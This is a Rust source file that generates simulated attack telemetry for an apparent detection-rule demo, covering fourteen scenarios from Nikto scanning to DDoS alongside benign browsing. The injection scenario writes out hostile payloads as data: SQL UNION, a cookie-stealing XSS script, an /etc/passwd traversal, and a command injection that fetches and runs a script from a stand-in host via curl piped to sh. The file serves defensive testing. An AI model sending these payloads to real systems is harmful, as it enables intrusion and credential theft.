//! The attacks the demo plays, each covered by built-in rules, and the
//! benign browsing around them. A scenario is planned as timed
//! [`Action`]s; the simulator writes each action's telemetry when its time
//! comes.

use rand::Rng;
use rand::rngs::StdRng;

use super::system::{
    BROWSERS, CITIES, Caller, GATEWAY, LOCATION, Parent, Request, Visitor, WEB_ORIGIN, Writer,
};

/// One attack: its name (for `--scenario`), what it does, and the rules
/// that must fire for it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Scenario {
    pub name: &'static str,
    pub summary: &'static str,
    pub rules: &'static [&'static str],
}

/// In the order they play.
pub const SCENARIOS: [Scenario; 14] = [
    Scenario {
        name: "scanner",
        summary: "Nikto probes the gateway for admin pages and backups",
        rules: &["scanner-user-agent"],
    },
    Scenario {
        name: "injection",
        summary: "SQL injection, XSS, path traversal and command injection in the city parameter and path",
        rules: &[
            "sql-injection",
            "cross-site-scripting",
            "path-traversal",
            "command-injection",
        ],
    },
    Scenario {
        name: "brute-force",
        summary: "12 wrong passwords for one user from one address, then the right one",
        rules: &["brute-force-login", "brute-force-then-success"],
    },
    Scenario {
        name: "credential-stuffing",
        summary: "8 leaked user names tried from one address",
        rules: &["credential-stuffing"],
    },
    Scenario {
        name: "foreign-country",
        summary: "a client in the US asks for New York's weather; the site serves the EU",
        rules: &["geo-policy"],
    },
    Scenario {
        name: "location-via-gateway",
        summary: "the gateway exposes the location service, which only weather may call",
        rules: &["topology-wrong-caller"],
    },
    Scenario {
        name: "location-direct",
        summary: "someone inside the network calls the location service with no trace context",
        rules: &["topology-internal-no-parent"],
    },
    Scenario {
        name: "spoofed-context",
        summary: "a client sends its own traceparent and the gateway continues that trace",
        rules: &["topology-spoofed-context"],
    },
    Scenario {
        name: "pii-to-partner",
        summary: "a weather release sends the user's e-mail and phone to the partner",
        rules: &["pii-to-third-party"],
    },
    Scenario {
        name: "csrf",
        summary: "a foreign page makes a logged-in user's browser post the settings form",
        rules: &["csrf-foreign-origin"],
    },
    Scenario {
        name: "privilege-probing",
        summary: "a user without the location role keeps asking for weather by position (403s)",
        rules: &["privilege-probing", "access-denied-logs"],
    },
    Scenario {
        name: "enumeration",
        summary: "a user walks 40 saved-place ids, other users' included (IDOR)",
        rules: &["enumeration-idor"],
    },
    Scenario {
        name: "scraping",
        summary: "a python-requests script pulls 700 forecasts in seconds",
        rules: &["excessive-request-rate", "scripting-user-agent"],
    },
    Scenario {
        name: "ddos",
        summary: "300 addresses flood the forecast route far above its baseline",
        rules: &["ddos-burst"],
    },
];

pub fn find(name: &str) -> Option<&'static Scenario> {
    SCENARIOS.iter().find(|s| s.name == name)
}

/// The ddos-burst rule's bucket width: the flood starts just after a
/// bucket boundary so it lands in one bucket.
pub const DDOS_BUCKET_NANOS: u64 = 10_000_000_000;

/// A request to play at some time.
#[derive(Clone, Debug)]
pub enum Action {
    Forecast {
        visitor: Visitor,
        city: String,
        partner_query: Option<String>,
    },
    /// A forecast whose gateway span continues a trace context sent by the caller.
    ForecastContinuing {
        visitor: Visitor,
        trace_id: [u8; 16],
        parent: [u8; 8],
        traceparent: String,
    },
    Here {
        visitor: Visitor,
        lat: f64,
        lon: f64,
    },
    Login {
        visitor: Visitor,
        user: String,
        ok: bool,
    },
    Place {
        visitor: Visitor,
        id: u32,
        status: u16,
    },
    Settings {
        visitor: Visitor,
        headers: Vec<(&'static str, String)>,
    },
    Rejected {
        visitor: Visitor,
        request: Request,
    },
    /// The location service's port, from inside the network.
    LocationDirect {
        address: String,
    },
    /// The gateway routing `/api/v1/location/resolve` to location.
    LocationViaGateway {
        visitor: Visitor,
    },
}

impl Action {
    /// Writes the action's telemetry at `at` (unix nanoseconds).
    pub fn write(self, writer: &mut Writer<'_>, at: u64) {
        match self {
            Action::Forecast {
                visitor,
                city,
                partner_query,
            } => {
                writer.forecast(at, &visitor, &city, partner_query);
            }
            Action::ForecastContinuing {
                visitor,
                trace_id,
                parent,
                traceparent,
            } => {
                let mut request = Request::get(
                    "/api/v1/weather",
                    "/api/v1/weather",
                    Some("city=Kyiv&units=metric".to_string()),
                );
                request.headers.push(("traceparent", traceparent));
                writer.forecast_with(
                    at,
                    &visitor,
                    &request,
                    Parent::Remote(parent),
                    Some(trace_id),
                    None,
                );
            }
            Action::Here { visitor, lat, lon } => {
                writer.forecast_here(at, &visitor, lat, lon);
            }
            Action::Login { visitor, user, ok } => {
                writer.login(at, &visitor, &user, ok);
            }
            Action::Place {
                visitor,
                id,
                status,
            } => {
                writer.place(at, &visitor, id, status);
            }
            Action::Settings { visitor, headers } => {
                writer.settings(at, &visitor, headers);
            }
            Action::Rejected { visitor, request } => {
                writer.rejected(at, &visitor, &request);
            }
            Action::LocationDirect { address } => {
                let request = Request::get(
                    "/v1/positions/resolve",
                    "/v1/positions/resolve",
                    Some("lat=50.450&lon=30.523".to_string()),
                );
                writer.location(
                    Caller::Direct {
                        at,
                        address: &address,
                        user_agent: "curl/8.5.0",
                    },
                    &request,
                );
            }
            Action::LocationViaGateway { visitor } => {
                let request = Request::get(
                    "/api/v1/location/resolve",
                    "/api/v1/location/resolve",
                    Some("lat=50.450&lon=30.523".to_string()),
                );
                let internal = Request::get(
                    "/v1/positions/resolve",
                    "/v1/positions/resolve",
                    Some("lat=50.450&lon=30.523".to_string()),
                );
                writer.gateway(at, &visitor, &request, Parent::None, None, |w, hop| {
                    let host = format!("{LOCATION}.svc.cluster.local");
                    w.call(GATEWAY, &hop, LOCATION, &host, 8081, &internal, |w, hop| {
                        w.location(Caller::Span(&hop), &internal)
                    })
                });
            }
        }
    }
}

/// One benign request: a random user browses.
pub fn benign(rng: &mut StdRng, users: &[Visitor]) -> Option<Action> {
    let visitor = users.get(rng.random_range(0..users.len().max(1)))?.clone();
    let user = visitor.user.clone()?;
    let city = CITIES[rng.random_range(0..CITIES.len())].to_string();
    let roll = rng.random_range(0..100u32);
    Some(match roll {
        0..60 => Action::Forecast {
            // One forecast in ten reports anonymous usage to the partner.
            partner_query: (rng.random_range(0..10u32) == 0)
                .then(|| format!("city={city}&requests=1")),
            visitor,
            city,
        },
        60..72 if user.can_locate() => Action::Here {
            visitor,
            lat: 48.0 + rng.random_range(0.0..6.0),
            lon: 2.0 + rng.random_range(0.0..28.0),
        },
        60..87 => Action::Place {
            id: user.places[rng.random_range(0..user.places.len())],
            status: 200,
            visitor,
        },
        87..93 => Action::Login {
            // Now and then a typo.
            ok: rng.random_range(0..20u32) != 0,
            user: user.id,
            visitor,
        },
        _ => Action::Settings {
            headers: if visitor.web {
                vec![
                    ("origin", WEB_ORIGIN.to_string()),
                    ("x-csrf-token", format!("{:016x}", rng.random::<u64>())),
                ]
            } else {
                Vec::new()
            },
            visitor,
        },
    })
}

/// What a scenario needs to know about the run.
pub struct PlanContext<'a> {
    pub users: &'a [Visitor],
    /// Which round of attacks (attackers get new addresses each round).
    pub round: u64,
    /// Benign requests per second, to size the flood above the baseline.
    pub rate: f64,
}

/// A planned attack: its actions, and the actor its alerts should name.
#[derive(Debug)]
pub struct Plan {
    pub actions: Vec<(u64, Action)>,
    pub actor: String,
}

const SECOND: u64 = 1_000_000_000;
const MS: u64 = 1_000_000;

/// An attacker of scenario `index` in round `round`: documentation
/// addresses (TEST-NET-3), one per scenario and round.
fn attacker(index: usize, round: u64, user_agent: &str, country: &'static str) -> Visitor {
    Visitor {
        address: format!("203.0.113.{}", 10 + index * 10 + (round % 10) as usize),
        user_agent: user_agent.to_string(),
        country,
        web: true,
        user: None,
    }
}

/// Plans `scenario` starting at `start` (unix nanoseconds).
pub fn plan(scenario: &Scenario, start: u64, context: &PlanContext<'_>, rng: &mut StdRng) -> Plan {
    let index = SCENARIOS
        .iter()
        .position(|s| s.name == scenario.name)
        .unwrap_or(0);
    let round = context.round;
    let browser = BROWSERS[index % BROWSERS.len()];
    let victim = |rng: &mut StdRng, can_locate: Option<bool>| -> Visitor {
        let candidates: Vec<&Visitor> = context
            .users
            .iter()
            .filter(|v| {
                can_locate
                    .is_none_or(|want| v.user.as_ref().is_some_and(|u| u.can_locate() == want))
                    && v.web
            })
            .collect();
        candidates
            .get(rng.random_range(0..candidates.len().max(1)))
            .map(|v| (*v).clone())
            .unwrap_or_else(|| attacker(index, round, browser, "UA"))
    };
    let mut actions = Vec::new();
    let actor = match scenario.name {
        "scanner" => {
            let nikto = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)";
            let visitor = attacker(index, round, nikto, "NL");
            for (i, path) in [
                "/",
                "/admin/",
                "/phpmyadmin/",
                "/server-status",
                "/backup.zip",
                "/test.php",
                "/cgi-bin/test.cgi",
                "/old/",
            ]
            .iter()
            .enumerate()
            {
                let mut request = Request::get("", *path, None);
                request.route = None;
                request.status = 404;
                actions.push((
                    start + i as u64 * 100 * MS,
                    Action::Rejected {
                        visitor: visitor.clone(),
                        request,
                    },
                ));
            }
            visitor.address
        }
        "injection" => {
            let visitor = attacker(index, round, browser, "DE");
            let weather = |query: &str| {
                let mut request = Request::get(
                    "/api/v1/weather",
                    "/api/v1/weather",
                    Some(query.to_string()),
                );
                request.status = 400;
                request
            };
            let mut traversal = Request::get("", "/api/v1/places/../../../../etc/passwd", None);
            traversal.route = None;
            traversal.status = 404;
            for (i, request) in [
                weather("city=Kyiv%27%20UNION%20SELECT%20username,password%20FROM%20users--"),
                weather("city=%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
                traversal,
                weather("city=Kyiv%3B%20curl%20http://203.0.113.99/x.sh%20|%20sh"),
            ]
            .into_iter()
            .enumerate()
            {
                actions.push((
                    start + i as u64 * 300 * MS,
                    Action::Rejected {
                        visitor: visitor.clone(),
                        request,
                    },
                ));
            }
            visitor.address
        }
        "brute-force" => {
            let visitor = attacker(index, round, browser, "PL");
            let target = victim(rng, None);
            let user = target.user.map(|u| u.id).unwrap_or_default();
            for i in 0..13u64 {
                actions.push((
                    start + i * 400 * MS,
                    Action::Login {
                        visitor: visitor.clone(),
                        user: user.clone(),
                        ok: i == 12,
                    },
                ));
            }
            visitor.address
        }
        "credential-stuffing" => {
            let visitor = attacker(index, round, browser, "FR");
            for i in 0..8u64 {
                actions.push((
                    start + i * 300 * MS,
                    Action::Login {
                        visitor: visitor.clone(),
                        user: format!("leaked{}-{i}@mail.example", round),
                        ok: false,
                    },
                ));
            }
            visitor.address
        }
        "foreign-country" => {
            let visitor = attacker(index, round, browser, "US");
            for (i, city) in ["New%20York", "Chicago", "Houston"].iter().enumerate() {
                actions.push((
                    start + i as u64 * 500 * MS,
                    Action::Forecast {
                        visitor: visitor.clone(),
                        city: (*city).to_string(),
                        partner_query: None,
                    },
                ));
            }
            visitor.address
        }
        "location-via-gateway" => {
            actions.push((
                start,
                Action::LocationViaGateway {
                    visitor: victim(rng, None),
                },
            ));
            LOCATION.to_string()
        }
        "location-direct" => {
            actions.push((
                start,
                Action::LocationDirect {
                    address: format!("10.20.3.{}", 7 + round % 200),
                },
            ));
            LOCATION.to_string()
        }
        "spoofed-context" => {
            let visitor = attacker(index, round, browser, "CZ");
            let mut trace_id = [0u8; 16];
            rng.fill(&mut trace_id[..]);
            trace_id[0] |= 1;
            let mut parent = [0u8; 8];
            rng.fill(&mut parent[..]);
            parent[0] |= 1;
            let traceparent = format!("00-{}-{}-01", hex(&trace_id), hex(&parent));
            actions.push((
                start,
                Action::ForecastContinuing {
                    visitor,
                    trace_id,
                    parent,
                    traceparent,
                },
            ));
            GATEWAY.to_string()
        }
        "pii-to-partner" => {
            let visitor = victim(rng, None);
            let user = visitor
                .user
                .as_ref()
                .map(|u| u.id.clone())
                .unwrap_or_default();
            actions.push((
                start,
                Action::Forecast {
                    partner_query: Some(format!(
                        "city=Lviv&requests=1&email={user}%40mail.example&phone=%2B380501234567"
                    )),
                    city: "Lviv".to_string(),
                    visitor,
                },
            ));
            "email".to_string()
        }
        "csrf" => {
            let origin = "https://free-weather-widgets.example";
            let visitor = victim(rng, None);
            for i in 0..2u64 {
                actions.push((
                    start + i * 500 * MS,
                    Action::Settings {
                        visitor: visitor.clone(),
                        headers: vec![
                            ("origin", origin.to_string()),
                            (
                                "content-type",
                                "application/x-www-form-urlencoded".to_string(),
                            ),
                        ],
                    },
                ));
            }
            origin.to_string()
        }
        "privilege-probing" => {
            let visitor = victim(rng, Some(false));
            for i in 0..12u64 {
                actions.push((
                    start + i * 300 * MS,
                    Action::Here {
                        visitor: visitor.clone(),
                        lat: 50.45,
                        lon: 30.52 + i as f64 * 0.01,
                    },
                ));
            }
            visitor.user.map(|u| u.id).unwrap_or_default()
        }
        "enumeration" => {
            let visitor = victim(rng, None);
            let own = visitor.user.as_ref().map(|u| u.places).unwrap_or_default();
            let first = own[0].saturating_sub(20);
            for i in 0..40u32 {
                let id = first + i;
                let mine = own.contains(&id);
                actions.push((
                    start + u64::from(i) * 100 * MS,
                    Action::Place {
                        visitor: visitor.clone(),
                        id,
                        // Other users' places come back too: the IDOR.
                        status: if mine || id % 4 != 0 { 200 } else { 404 },
                    },
                ));
            }
            visitor.user.map(|u| u.id).unwrap_or_default()
        }
        "scraping" => {
            let visitor = attacker(index, round, "python-requests/2.32.3", "DE");
            for i in 0..700u64 {
                actions.push((
                    start + i * 5 * MS,
                    Action::Forecast {
                        visitor: visitor.clone(),
                        city: CITIES[(i as usize) % CITIES.len()].to_string(),
                        partner_query: None,
                    },
                ));
            }
            visitor.address
        }
        "ddos" => {
            // Land in one ddos-burst bucket: start just after a boundary,
            // and flood with several times the route's usual bucket.
            let begin = (start / DDOS_BUCKET_NANOS + 1) * DDOS_BUCKET_NANOS + 500 * MS;
            let usual = context.rate * 0.7 * 10.0;
            let count = (usual * 8.0).max(600.0) as u64;
            let spread = 2 * SECOND;
            for i in 0..count {
                let bot = (i % 300) as usize;
                let address = if bot < 150 {
                    format!("198.51.100.{}", bot + 1)
                } else {
                    format!("192.0.2.{}", bot - 149)
                };
                let visitor = Visitor {
                    address,
                    user_agent: BROWSERS[bot % BROWSERS.len()].to_string(),
                    country: "DE",
                    web: true,
                    user: None,
                };
                actions.push((
                    begin + i * spread / count,
                    Action::Forecast {
                        visitor,
                        city: CITIES[bot % CITIES.len()].to_string(),
                        partner_query: None,
                    },
                ));
            }
            "/api/v1/weather".to_string()
        }
        _ => String::new(),
    };
    Plan { actions, actor }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}
